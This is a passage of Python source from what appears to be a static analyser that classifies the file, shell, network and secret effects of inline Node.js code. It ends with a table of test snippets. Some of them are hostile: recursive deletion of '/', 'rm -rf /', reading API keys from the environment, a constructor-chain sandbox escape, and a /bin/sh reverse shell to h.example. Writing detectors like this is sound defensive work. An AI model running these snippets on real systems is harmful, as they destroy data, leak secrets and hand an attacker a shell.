        self.doubt(f"the method {name}")

    def _base(self, at: int) -> str | None:
        """The module whose member is at this place; None where it is a member of data."""
        base = self.token(at - 2)
        if base.kind == "name" and self.token(at - 3).text not in (".", "?."):
            if base.text in self.modules:
                return self.modules[base.text]
            if base.text == "process" and base.text not in self.locals:
                return "process"
            if base.text in ("console", "JSON", "Math") and base.text not in self.locals:
                return None
            if (
                base.text not in self.locals
                and (base.text in _MODULES or base.text in _PURE_MODULES)
                and base.text != "crypto"
            ):
                return base.text
        if base.text == "promises" and self.token(at - 4).text in (*self.modules, "fs", "dns"):
            return "fs"
        if (
            base.text == ")"
            and self.match[at - 2] >= 0
            and self.token(self.match[at - 2] - 1).text in ("require", "import")
        ):
            return "required"
        if base.text == "promises" and self.token(at - 4).text == ")":
            return "required"
        return None

    def _callbacks(self, start: int) -> None:
        """What is called back must be a function of the code, or plain data that cannot be called."""
        for first, end in self._groups(start):
            at = first
            while self.token(at).text == "\n":
                at += 1
            token = self.token(at)
            size = sum(1 for t in self.tokens[at:end] if t.text != "\n" or t.kind != "op")
            if (
                self._is_function(at)
                or token.kind in ("string", "number", "regex", "template")
                or token.text in ("{", "[", "-")
            ):
                continue
            if size == 1 and (
                token.text in self.functions
                or token.text
                in (
                    "Boolean",
                    "Number",
                    "String",
                    "parseInt",
                    "parseFloat",
                    "encodeURIComponent",
                    "decodeURIComponent",
                    "null",
                    "undefined",
                    "true",
                    "false",
                )
            ):
                continue
            if (
                size == 3
                and token.text in ("JSON", "console", "Math", "Object", "Array")
                and self.token(at + 2).text in _METHODS
            ):
                continue
            if token.kind == "name" and size == 1 and token.text in self.values:
                continue
            if token.text == "new" and self.token(at + 1).text in (
                "Map",
                "Set",
                "RegExp",
                "Array",
                "Uint8Array",
            ):
                continue
            if (
                size > 1
                and token.kind == "name"
                and self.token(at + 1).text == "."
                and self.token(at + 2).text in ("length", "size", "keys", "values", "entries", "argv")
            ):
                continue
            if self.token(start - 1).text == "from" and first == start + 1:
                continue  # Array.from(x): only its second argument is called
            self.doubt("a callback that is computed")

    def _computed(self, at: int) -> None:
        """``x[y]``: the member is not known, so it may not be called, nor may x be a module."""
        before_at = at - 1
        before = self.token(before_at)
        if not (
            (before.kind in ("name", "string", "template", "regex") and before.text not in _KEYWORDS)
            or (before.kind == "op" and before.text in (")", "]", "?."))
        ) or (before.text == "this"):
            return
        inner = [token for token in self.tokens[at + 1 : self.match[at]] if token.text != "\n"]
        if len(inner) == 1 and inner[0].kind == "number":
            return
        if len(inner) == 1 and inner[0].kind == "string":
            if inner[0].text in _DENIED or inner[0].text in ("process", "eval", "Function", "require"):
                self.doubt(f"the member {inner[0].text}")
            return
        base = before.text
        if (
            before.kind in ("string", "template", "regex")
            or (
                base in _GLOBALS
                and base not in self.locals
                and before.kind == "name"
                and self.token(at - 2).text != "."
            )
            or (
                base == "]"
                and self._before(self.match[before_at]).kind != "name"
                and self._before(self.match[before_at]).text not in (")", "]")
            )
        ):
            self.doubt("a computed member")

    # modules

    def _module_use(self, at: int, module: str) -> None:
        """A name that stands for a module."""
        following = self.token(at + 1)
        if following.text == "=" or (following.text == "\n" and self.token(self._after(at)).text == "="):
            return
        if self._before(at).text in ("const", "let", "var", "{", "import", "as", "*") and following.text in (
            "=",
            ",",
            "}",
            "from",
            ";",
            "\n",
            "",
        ):
            return
        if following.text not in (".", "?."):
            if following.text == "(" and module == "assert":
                return
            if self._before(at).text == "new" or (module not in _MODULES and module in _PURE_MODULES):
                return
            if (
                following.text == "["
                and self.token(at + 2).kind == "string"
                and self.token(at + 3).text == "]"
            ):
                self._function(module, self.token(at + 2).text, at + 4)
                return
            self.doubt(f"{module} as a value")
            return
        member = at + 2
        if self.token(member).text == "promises" and self.token(member + 1).text == ".":
            member += 2
        if self.token(member + 1).text == "(":
            self._function(module, self.token(member).text, member + 1)
        else:
            self._function_out_of_sight(at, module, self.token(member).text)

    def _function_out_of_sight(self, at: int, module: str, name: str) -> None:
        if self.token(at).text in self.members and self._before(at).text in (
            "{",
            ",",
            ":",
            "const",
            "let",
            "var",
        ):
            following = self.token(self._after(at)).text
            if following in ("}", ",", ":", "="):
                return
        if self._kind(module, name) not in ("pure", "module"):
            self._function(module, name, -1)

    def _kind(self, module: str, name: str) -> str:
        if module in _PURE_MODULES:
            if (
                name in _PURE_MODULES[module]
                or name.removesuffix("Sync") in _PURE_MODULES[module]
                or (module == "path" and name in ("posix", "win32"))
            ):
                return "pure"
            return ""
        return _MODULES.get(module, {}).get(name.removesuffix("Sync"), "")

    def _require(self, start: int) -> None:
        groups = self._groups(start)
        module = self._value(*groups[0]).removeprefix("node:") if groups else UNKNOWN
        if not is_static(module) or self.token(groups[0][0] if groups else -1).kind not in (
            "string",
            "template",
            "name",
        ):
            self.doubt("require of what is not known")
            return
        self._load(module)
        end = self.match[start]
        if self.token(end + 1).text == ".":
            member = end + 2
            if self.token(member).text == "promises" and self.token(member + 1).text == ".":
                member += 2
            if module in _MODULES or module in _PURE_MODULES:
                if self.token(member + 1).text == "(":
                    self._function(module, self.token(member).text, member + 1)
                elif self._kind(module, self.token(member).text) not in ("pure", "module") and self.token(
                    member
                ).text not in [m for _, m in self.members.values()]:
                    self._function(module, self.token(member).text, -1)
        elif self.token(end + 1).text == "[" and module in _MODULES:
            if self.token(end + 2).kind == "string" and self.token(end + 3).text == "]":
                self._function(
                    module, self.token(end + 2).text, end + 4 if self.token(end + 4).text == "(" else -1
                )
            else:
                self.doubt(f"a computed member of {module}")
        elif module in _MODULES and not self._is_bound(start):
            self.doubt(f"{module} as a value")

    def _is_bound(self, start: int) -> bool:
        """Whether the module becomes a name that is followed."""
        at = start - 2
        while self.token(at).text in ("await", "\n"):
            at -= 1
        if self.token(at).text != "=":
            return self._before(start - 1).text in (";", "\n", "{", "}", "") and self.token(
                self.match[start] + 1
            ).text in (";", "\n", "")
        target = self._before(at)
        return target.text in self.modules or target.text == "}"

    def _load(self, module: str) -> None:
        if module in _MODULES or module in _PURE_MODULES:
            return
        if module.startswith((".", "/")):
            if module.endswith(".json"):
                self.out.extend(opened(module))
            else:
                self.out.append(RunFile(module, "javascript"))
        else:
            self.doubt(f"the package {module}")

    def _function(self, module: str, name: str, start: int) -> None:
        """A call of a module's function; ``start`` is its parenthesis, -1 where the arguments are not known."""
        kind = self._kind(module, name)
        if kind == "pure" or (kind == "module" and start < 0):
            return
        if module == "process":
            if name not in _PROCESS:
                self.doubt(f"process.{name}")
            return
        if module not in _MODULES and module not in _PURE_MODULES:
            return  # its loading was uncertain already
        groups = self._groups(start) if start >= 0 and self.token(start).text == "(" else []
        values = [self._value(*group) for group in groups]
        first = values[0] if values else UNKNOWN
        second = values[1] if len(values) > 1 else UNKNOWN
        out = self.out
        if kind in ("read", "write", "append", "edit", "create"):
            if first not in ("0", "1", "2"):
                out.extend(opened(first, "" if kind == "read" else kind))
        elif kind == "delete":
            out.append(Effect(Kind.DELETE, first))
        elif kind == "rm":
            options = self.tokens[groups[1][0] : groups[1][1]] if len(groups) > 1 else []
            recursive = (
                any(token.text == "recursive" for token in options)
                or (len(groups) > 1 and not options)
                or any(token.kind == "name" and token.text in self.locals for token in options)
            )
            out.append(Effect(Kind.DELETE, first, recursive=recursive or start < 0))
        elif kind == "move":
            out.append(Effect(Kind.MOVE, first, to=second))
        elif kind == "copy":
            out.extend((*opened(first), *opened(second, "write")))
        elif kind == "link":
            out.append(Effect(Kind.WRITE, second, "link", to=first))
        elif kind == "mode":
            out.append(Effect(Kind.MODE, first, second.removeprefix("0o")))
        elif kind == "owner":
            out.append(Effect(Kind.OWNER, first, second))
        elif kind == "open":
            if len(values) > 1 and not re.fullmatch("r", second):
                out.extend(opened(first, "append" if second.startswith("a") else "write"))
            else:
                out.extend(opened(first))
        elif kind == "shell":
            self._command_options(groups[1:])
            out.append(RunShell(first))
            self._shell_over_network()
        elif kind == "spawn":
            self._spawn(groups, first)
        elif kind == "fork":
            out.append(RunFile(first, "javascript"))
        elif kind in ("get", "request", "resolve"):
            self._request(kind, groups, first)
        elif kind == "connect":
            host = self._host(groups, values)
            out.append(Effect(Kind.NETWORK, host, "connect"))
            self._shell_over_network(host)
        elif kind == "listen":
            if any(token.text == "listen" for token in self.tokens):
                out.append(Effect(Kind.NETWORK, UNKNOWN, "listen"))
                self._shell_over_network(UNKNOWN)
        else:
            self.doubt(f"{module}.{name}")

    def _shell_over_network(self, host: str = "") -> None:
        texts = {token.text for token in self.tokens}
        if (
            host
            and texts & {"spawn", "exec", "spawnSync", "execSync", "execFile"}
            and texts & {"pipe", "stdin"}
        ):
            self.out.append(Effect(Kind.NETWORK, host, "shell"))

    def _command_options(self, groups: list[tuple[int, int]]) -> bool:
        """Looks at the options of a command; returns whether a shell runs it."""
        shell = False
        for first, end in groups:
            texts = [token.text for token in self.tokens[first:end]]
            if "{" not in texts[:1] and texts[:1] != ["\n"]:
                continue
            if "shell" in texts:
                at = texts.index("shell")
                shell = texts[at + 1 : at + 3] != [":", "false"]
            if any(word in texts for word in ("env", "uid", "gid", "argv0", "execPath", "input", "...")):
                self.doubt("a command with unusual options")
            if "cwd" in texts:
                self.doubt("a command in another folder")
        return shell

    def _spawn(self, groups: list[tuple[int, int]], program: str) -> None:
        words = self._list(*groups[1]) if len(groups) > 1 else []
        if len(groups) > 1 and words is None:
            words = [] if self.token(groups[1][0]).text == "{" or self._is_function(groups[1][0]) else [MANY]
        shell = self._command_options(groups[1:])
        if not groups:
            words = [MANY]
        if shell:
            self.out.append(
                RunShell(" ".join([program, *[UNKNOWN if w == MANY else w for w in words or []]]))
            )
        else:
            self.out.append(RunCommand((program, *(words or []))))

    def _request(self, kind: str, groups: list[tuple[int, int]], first: str) -> None:
        detail = {"get": "download", "request": "request", "resolve": "request"}[kind]
        for group in groups:
            texts = [token.text for token in self.tokens[group[0] : group[1]]]
            if texts[:1] == ["{"] and kind != "resolve":
                first = next(
                    (
                        self.tokens[group[0] + i + 2].text
                        for i, t in enumerate(texts)
                        if t in ("host", "hostname") and self.token(group[0] + i + 2).kind == "string"
                    ),
                    first,
                )
            if "method" in texts and any(word in texts for word in ("POST", "PUT", "PATCH", "DELETE")):
                detail = "upload"
        if kind == "request":
            texts = [token.text for token in self.tokens]
            if "pipe" in texts or "write" in texts or "end" in texts:
                detail = "upload"
        self.out.append(Effect(Kind.NETWORK, first, detail))

    def _host(self, groups: list[tuple[int, int]], values: list[str]) -> str:
        if groups and self.token(groups[0][0]).text == "{":
            for at in range(groups[0][0], groups[0][1]):
                if self.tokens[at].text == "host" and self.token(at + 2).kind == "string":
                    return self.token(at + 2).text
            return UNKNOWN
        if (
            len(values) > 1
            and self.token(groups[1][0]).kind in ("string", "name", "template")
            and not self._is_function(groups[1][0])
        ):
            return values[1]
        return "localhost" if values and values[0].isdigit() else UNKNOWN

    def _fetch(self, start: int) -> None:
        groups = self._groups(start)
        url = self._value(*groups[0]) if groups else UNKNOWN
        texts = [token.text for group in groups[1:] for token in self.tokens[group[0] : group[1]]]
        sends = (
            "body" in texts
            or any(word in texts for word in ("POST", "PUT", "PATCH", "DELETE"))
            or (len(groups) > 1 and texts[:1] != ["{"])
        )
        self.out.append(Effect(Kind.NETWORK, url, "upload" if sends else "download"))

    def _process(self, at: int) -> None:
        tokens = self.tokens
        if self.token(at + 1).text not in (".", "?."):
            if (
                self.token(at + 1).text == "["
                and self.token(at + 2).kind == "string"
                and self.token(at + 2).text in _PROCESS
            ):
                return
            self.doubt("process as a value")
            return
        name = self.token(at + 2).text
        if name == "env":
            following = self.token(at + 3)
            if following.text in (".", "?."):
                if self.token(at + 5).text in ("=", "+="):
                    self.doubt("a change of the environment")
                else:
                    self.out.extend(variable_read(self.token(at + 4).text))
            elif following.text == "[":
                self.out.extend(variable_read(self._value(at + 4, self.match[at + 3])))
                if self.token(self.match[at + 3] + 1).text == "=":
                    self.doubt("a change of the environment")
            else:
                names = [t.text for t in tokens[max(0, at - 40) : at]]
                if names[-1:] == ["="] and names[-2:-1] == ["}"]:
                    start = self.match[at - 2]
                    for token in tokens[start + 1 : at - 2]:
                        if token.kind == "name":
                            self.out.extend(variable_read(token.text))
                else:
                    self.out.append(Effect(Kind.SECRET, ENVIRONMENT))
        elif name == "kill":
            groups = self._groups(at + 3) if self.token(at + 3).text == "(" else []
            self.out.append(Effect(Kind.PROCESS, self._value(*groups[0]) if groups else UNKNOWN, "signal"))
        elif name not in _PROCESS:
            self.doubt(f"process.{name}")
        elif name in ("stdout", "stderr", "stdin", "versions", "release", "config", "features"):
            return


def _unescaped(text: str) -> str:
    if "\\" not in text:
        return with_unknown(text)

    def one(match: re.Match[str]) -> str:
        word = match[1]
        if word[0] in "xu" and len(word) > 1:
            code = int(word[1:].strip("{}"), 16)
            return chr(code) if 4 < code < 0x110000 and not 0xD800 <= code < 0xE000 else UNKNOWN
        return {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f", "v": "\v", "0": UNKNOWN, "\n": ""}.get(
            word, word
        )

    return with_unknown(
        re.sub(r"\\(x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|u\{[0-9a-fA-F]{1,6}\}|[\s\S])", one, text)
    )


def _joined(parts: list[str]) -> str:
    path = ""
    for part in parts:
        if part[:1] in ("/", UNKNOWN, HOME):
            path = part
        else:
            path = f"{path.rstrip('/')}/{part}" if path and path != "." else part
    return path or UNKNOWN


EXAMPLES: tuple[tuple[str, str], ...] = (
    ("console.log(1 + 1)", ""),
    ("console.log(JSON.stringify(JSON.parse('{\"a\":1}'), null, 2))", ""),
    ("process.version", ""),
    ("[1,2,3].map(x => x * 2).filter(Boolean).join(',')", ""),
    ("const f = (a, b) => a / b; console.log(f(1, 2), `${f(2, 1)}`)", ""),
    ("require('./package.json').version", "read ./package.json"),
    ("require('os').cpus().length", ""),
    ("const fs = require('fs'); console.log(fs.readFileSync('a.txt', 'utf8'))", "read a.txt"),
    ("require('fs').writeFileSync('a.txt', 'x')", "write a.txt"),
    ("const {rmSync} = require('node:fs'); rmSync('/', {recursive: true})", "delete / recursive"),
    ("fs.readdirSync('d').forEach(f => fs.unlinkSync(f))", "read d; delete …"),
    ("require('child_process').execSync('rm -rf /')", "shell 'rm -rf /'"),
    ("const cp = require('child_process'); cp.spawn('ls', ['-l', 'a'])", "run ls -l a"),
    ("import { exec as e } from 'node:child_process'; e('id')", "shell 'id'"),
    ("`${require('child_process').execSync('id')}`", "shell 'id'"),
    ("fetch('https://x.example').then(r => r.text()).then(t => console.log(t))", "network download https://x.example"),
    ("console.log(process.env.HOME, process.env.API_KEY)", "secret $API_KEY"),
    ("console.log(process.env)", "secret the environment variables"),
    ("eval('1')", "execute eval inline javascript code !uncertain"),
    ("[].constructor.constructor('return process')()", "execute a call of what is computed inline javascript code !uncertain; execute the member constructor inline javascript code !uncertain"),
    ("const k = 'x'; [][k][k]('code')()", "execute a call of what is computed inline javascript code !uncertain; execute a computed member inline javascript code !uncertain"),
    ("require('lodash')", "execute the package lodash inline javascript code !uncertain"),
    ('sh = require("child_process").spawn("/bin/sh");\nrequire("net").connect(4444, "h.example", function () {\n  this.pipe(sh.stdin);\n})', "run /bin/sh; network connect h.example; network shell h.example; execute the method pipe inline javascript code !uncertain"),
)  # fmt: skip
